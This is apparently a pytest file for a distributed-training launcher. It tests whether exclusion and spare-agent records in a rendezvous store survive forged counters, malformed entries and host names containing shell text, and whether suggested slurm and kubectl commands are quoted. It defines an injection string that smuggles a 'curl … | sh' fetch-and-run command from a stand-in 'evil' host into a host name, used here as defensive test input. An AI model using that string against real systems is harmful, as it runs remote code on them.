"""What anyone who can reach the rendezvous store can write into rankguard's exclusion and
spare keys, against a real ``TCPStore`` on loopback: a raised counter, entries that are not
ours, host names that are shell text. Each reader stays bounded in time and memory, keeps
the genuine entries, and suggests commands a shell reads as one host each."""

from __future__ import annotations

import json
import shlex
import socket
import threading
import time
import tracemalloc
from datetime import timedelta
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from torch.distributed import TCPStore

from rankguard.config import RankguardConfig
from rankguard.ft.config import FaultToleranceConfig
from rankguard.launcher import spares
from rankguard.launcher.exclusion import (
    Exclusion,
    NodeExclusion,
    exclusion_commands,
    is_hostname,
    read_excluded,
)
from rankguard.launcher.membership import SpareService
from rankguard.launcher.services import NodeServices
from rankguard.launcher.spares import AgentRegistry, read_agents
from rankguard.schema.layout import StoreKeys
from rankguard.schema.restarts import RestartEntry
from rankguard.view.runfiles import excluded_lines

pytestmark = pytest.mark.timeout(120)

RUN = "r1"
KEYS = StoreKeys(RUN)
SHELL = "n1 x; curl -s http://evil/x|sh #"


def _store(timeout_s: float = 30.0) -> TCPStore:
    """The rendezvous store as the launcher has it (its 30 s timeout: a ``multi_get`` of
    a missing key waits that long)."""
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = int(s.getsockname()[1])
    return TCPStore(
        "127.0.0.1",
        port,
        is_master=True,
        wait_for_workers=False,
        timeout=timedelta(seconds=timeout_s),
    )


def _node(
    tmp_path: Path, name: str, store: Any, *, min_nodes: int = 2, max_nodes: int = 3
) -> tuple[NodeExclusion, list[str]]:
    said: list[str] = []
    ex = NodeExclusion(
        FaultToleranceConfig(exclude_bad_nodes=True),
        run_id=RUN,
        run_dir=tmp_path / name,
        min_nodes=min_nodes,
        max_nodes=max_nodes,
        store=store,
        say=said.append,
        health=lambda: {"status": "ok", "gpus": []},
    )
    (tmp_path / name).mkdir()
    return ex, said


class _Handler:
    """What ``leave`` needs of the rendezvous handler: no leaving at once (its keep-alive
    does), a close it records."""

    closed = False

    def set_closed(self) -> None:
        self.closed = True


def _bad(host: str = "bad-host", pid: int = 4242, **over: Any) -> Exclusion:
    return Exclusion(
        "gpu_health", host, pid, 1, 0, ("xid=79",), f"node 1 (host {host}) excluded", **over
    )


# ---- exclusions -------------------------------------------------------------------------


def test_two_launchers_a_raised_count_without_an_entry_loses_no_real_exclusion(
    tmp_path: Path,
) -> None:
    """A count raised by one with no entry: the genuine exclusion published after it still
    reaches the other launcher's ``excluded_nodes.json`` and findings, at once (not after
    the store's 30 s timeout), and the excluded node does not take the raised count for
    a second exclusion (it would close the rendezvous: 3 - 2 < MIN 2)."""
    store = _store()
    store.add(KEYS.excluded_count, 1)  # forged: no entry behind it
    bad, _ = _node(tmp_path, "bad", store)
    ok, said = _node(tmp_path, "ok", store)
    bad.node_rank, ok.node_rank = 1, 0
    handler = _Handler()
    exclusion = _bad(socket.gethostname(), bad.pid)
    assert bad.leave(exclusion, handler) is False
    assert not handler.closed and not bad.closed_it
    t0 = time.monotonic()
    new = ok.sync(write_findings=True)
    took = time.monotonic() - t0
    assert took < 5.0, took
    assert [e.node for e in new] == [exclusion.node]
    listed = read_excluded(tmp_path / "ok")
    assert listed is not None and listed["hosts"] == [exclusion.hostname]
    (line,) = (tmp_path / "ok" / "findings.jsonl").read_text().splitlines()
    assert json.loads(line)["hostname"] == exclusion.hostname
    assert any("goes on without it" in s for s in said)


def test_a_huge_count_costs_no_memory_and_the_entry_after_it_is_read(tmp_path: Path) -> None:
    store = _store()
    store.add(KEYS.excluded_count, 10**6)  # one add(): was +238 MiB per node
    ok, _ = _node(tmp_path, "ok", store)
    tracemalloc.start()
    t0 = time.monotonic()
    try:
        assert ok.sync(write_findings=False) == []
        took = time.monotonic() - t0
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert took < 5.0 and peak < 8 << 20, (took, peak)
    index = int(store.add(KEYS.excluded_count, 1))  # a genuine node publishes after it
    store.set(KEYS.excluded(str(index)), json.dumps(_bad().to_dict()))
    assert [e.hostname for e in ok.sync(write_findings=False)] == ["bad-host"]


def test_each_entry_is_parsed_alone_and_bounded(tmp_path: Path) -> None:
    store = _store()
    good = _bad("good-host", 7)
    entries = [
        {**_bad().to_dict(), "hostname": SHELL},  # shell text
        {**_bad().to_dict(), "pid": 1e300},  # not a whole number
        {**_bad().to_dict(), "pid": True},
        {**_bad().to_dict(), "gpu": "0"},
        "[" * 100_000,  # nested past the parser's depth
        "x" * 100_000,  # longer than any entry
        {**good.to_dict(), "message": "m" * 5000, "problems": ["p" * 300] * 30},
    ]
    for value in entries:
        index = int(store.add(KEYS.excluded_count, 1))
        text = value if isinstance(value, str) else json.dumps(value)
        store.set(KEYS.excluded(str(index)), text)
    ok, said = _node(tmp_path, "ok", store, max_nodes=8)
    (got,) = ok.sync(write_findings=True)
    assert got.hostname == "good-host"
    assert len(got.message) <= 1000 and len(got.problems) <= 16
    assert all(len(p) <= 200 for p in got.problems)
    assert sum("refused" in s for s in said) == 6  # each said once
    ok.sync(write_findings=True)
    assert sum("refused" in s for s in said) == 6
    assert "curl" not in (tmp_path / "ok" / "excluded_nodes.json").read_text()


def test_host_names_are_rfc_1123() -> None:
    for name in ("n1", "gpu-node-01.cluster.local", "a" * 63, "h.", "x" * 63 + "." + "y" * 63):
        assert is_hostname(name), name
    for name in (SHELL, "", "-n1", "n1-", "a" * 64, "a_b", "n1\n", ".", "a..b", None, 5):
        assert not is_hostname(name), name
    assert not is_hostname(".".join(["a" * 60] * 5))  # 304 characters
    with pytest.raises(ValueError, match="hostname"):
        Exclusion.from_dict({**_bad().to_dict(), "hostname": SHELL})


def test_every_suggested_command_is_quoted_for_the_shell(tmp_path: Path) -> None:
    commands = exclusion_commands([SHELL, "n2"])
    assert shlex.split(commands["slurm_exclude"]) == [f"--exclude={SHELL},n2"]
    assert [shlex.split(c)[3] for c in commands["kubectl"]] == [SHELL, "n2"]
    assert all(len(shlex.split(c)) == 5 for c in commands["kubectl"])
    # what the launcher says and rankguard status shows
    ex, said = _node(tmp_path, "n", None)
    ex.known = {"a": _bad(SHELL)}
    ex._say_commands()
    ex._write_hosts(below_min=False)
    shown = "\n".join(excluded_lines(tmp_path / "n"))
    for text in (said[0], shown):
        assert f"kubectl taint nodes {shlex.quote(SHELL)} " in text, text
        assert shlex.quote(f"--exclude={SHELL}") in text, text


# ---- spares -----------------------------------------------------------------------------


def _forge_agent(store: Any, entry: Any) -> int:
    index = int(store.add(f"rankguard/{RUN}/agents", 1)) - 1
    text = entry if isinstance(entry, str) else json.dumps(entry)
    store.set(f"rankguard/{RUN}/agent/{index}", text)
    return index


def _forever() -> dict[str, Any]:
    return {"agent": "evil:1", "state": "waiting", "since": time.time(), "beat": 0}


def test_a_forged_keep_alive_does_not_hold_the_store_host(
    capsys: pytest.CaptureFixture[str],
) -> None:
    """The never-exiting store host: a waiting entry with a keep-alive of 1e12 s pushed
    its wait for the spares to ``start + 3e12`` (the launcher never exited)."""
    from rankguard.launcher.membership import keep_store_for_spares
    from rankguard.launcher.run import _say

    store = _store()
    _forge_agent(store, {**_forever(), "keepalive_s": 1e12})
    services = SimpleNamespace(store=store, run_id=RUN, spares_gone=set())
    done = threading.Event()
    worker = threading.Thread(
        target=lambda: (
            keep_store_for_spares(
                services.store, services.run_id, services.spares_gone, _say, wait_s=0.5
            ),
            done.set(),
        ),  # type: ignore[func-returns-value]
        daemon=True,
    )
    worker.start()
    assert done.wait(10.0), "the store's host still waits for a forged spare"


def test_the_whole_wait_for_spares_is_capped(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """An entry within the bounds (keep-alive 3600 s) whose beat goes on: the store's host
    waits at most ``MAX_SPARE_WAIT_S`` (made short here), then lets the store go."""
    from rankguard.launcher.membership import keep_store_for_spares
    from rankguard.launcher.run import _say

    monkeypatch.setattr(spares, "MAX_SPARE_WAIT_S", 1.0)
    store = _store()
    _forge_agent(store, {**_forever(), "keepalive_s": 3600})
    services = SimpleNamespace(store=store, run_id=RUN, spares_gone=set())
    t0 = time.monotonic()
    keep_store_for_spares(services.store, services.run_id, services.spares_gone, _say, wait_s=0.2)
    assert time.monotonic() - t0 < 5.0
    assert "spares still waiting" in capsys.readouterr().err


@pytest.mark.parametrize(
    "over",
    [
        {"since": "x"},
        {"node": "a", "state": "training", "round": "R1"},
        {"rounds": "2", "state": "training", "round": "R1"},
        {"keepalive_s": 1e12},
        {"keepalive_s": float("nan")},
        {"keepalive_s": -1},
        {"agent": 5},
        {"agent": "a" * 1000},
        {"state": "asleep"},
        {"beat": 2**70},
        {"round": ["R1"], "state": "training"},
    ],
)
def test_read_agents_checks_each_entry(over: dict[str, Any]) -> None:
    store = _store(5.0)
    real = AgentRegistry(store, RUN, max_nodes=2, agent="h:1")
    real.waiting()
    real.close()
    _forge_agent(store, json.dumps({**_forever(), **over}, allow_nan=True))
    _forge_agent(store, "[" * 100_000)
    assert [a["agent"] for a in read_agents(store, RUN)] == ["h:1"]


def _checkpoints_block_on(services: NodeServices, run_dir: Path) -> None:
    """The ``checkpoints`` status source as node 0's start leaves it (its service reads
    the run's registry), without starting the monitor's threads."""
    (service,) = [s for s in services.services if s.name == "checkpoints"]
    service.run_dir = run_dir  # type: ignore[attr-defined]


def test_a_bad_entry_no_longer_removes_the_other_status_blocks(tmp_path: Path) -> None:
    store = _store(5.0)
    services = NodeServices(
        cfg=RankguardConfig(),
        run_dir=tmp_path,
        run_id=RUN,
        node_rank=0,
        nnodes=2,
        expected_world_size=4,
        store=store,
    )
    spares = services.service("elastic")
    assert isinstance(spares, SpareService)
    spares.track, spares.services = True, services  # as a c10d launch's wrap leaves it
    services.restarts.append(RestartEntry(restart=1))
    (tmp_path / "checkpoints.json").write_text('{"last": {"step": 3}}')
    _checkpoints_block_on(services, tmp_path)
    _forge_agent(store, {**_forever(), "since": "x"})
    _forge_agent(store, {"agent": "evil:2", "state": "training", "round": None, "node": "a"})
    fields = services.status_fields()
    assert {"restarts", "checkpoints", "timeouts", "elastic"} <= set(fields)
    assert fields["elastic"]["spares_waiting"] == []


def test_one_failing_status_block_keeps_the_others(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    services = NodeServices(
        cfg=RankguardConfig(),
        run_dir=tmp_path,
        run_id=RUN,
        node_rank=0,
        nnodes=2,
        expected_world_size=4,
    )
    services.restarts.append(RestartEntry(restart=1))
    (tmp_path / "checkpoints.json").write_text('{"last": {"step": 3}}')
    _checkpoints_block_on(services, tmp_path)

    def broken() -> None:
        raise ValueError("a bad entry")

    monkeypatch.setattr(services.service("elastic"), "elastic_fields", broken)
    for _ in range(2):
        fields = services.status_fields()
    assert {"restarts", "checkpoints", "timeouts"} <= set(fields)
    assert fields["status_errors"] == {"elastic": 2}


class _Counting:
    """A store that counts its ``check`` calls (each one a round trip)."""

    def __init__(self, inner: Any) -> None:
        self.inner, self.checks = inner, 0

    def check(self, keys: list[str]) -> bool:
        self.checks += 1
        return bool(self.inner.check(keys))

    def __getattr__(self, name: str) -> Any:
        return getattr(self.inner, name)


def test_a_raised_agents_counter_costs_a_bounded_number_of_checks() -> None:
    store = _store(5.0)
    for n in range(3):
        AgentRegistry(store, RUN, max_nodes=2, agent=f"h:{n}").waiting()
    store.add(f"rankguard/{RUN}/agents", 10**9)  # every index past the agents: missing
    late = AgentRegistry(store, RUN, max_nodes=2, agent="h:late")
    late.waiting()  # registered after the raised counter: among the newest
    counting = _Counting(store)
    names = sorted(a["agent"] for a in read_agents(counting, RUN))
    assert names == ["h:0", "h:1", "h:2", "h:late"]
    assert counting.checks <= spares.MAX_CHECKS, counting.checks
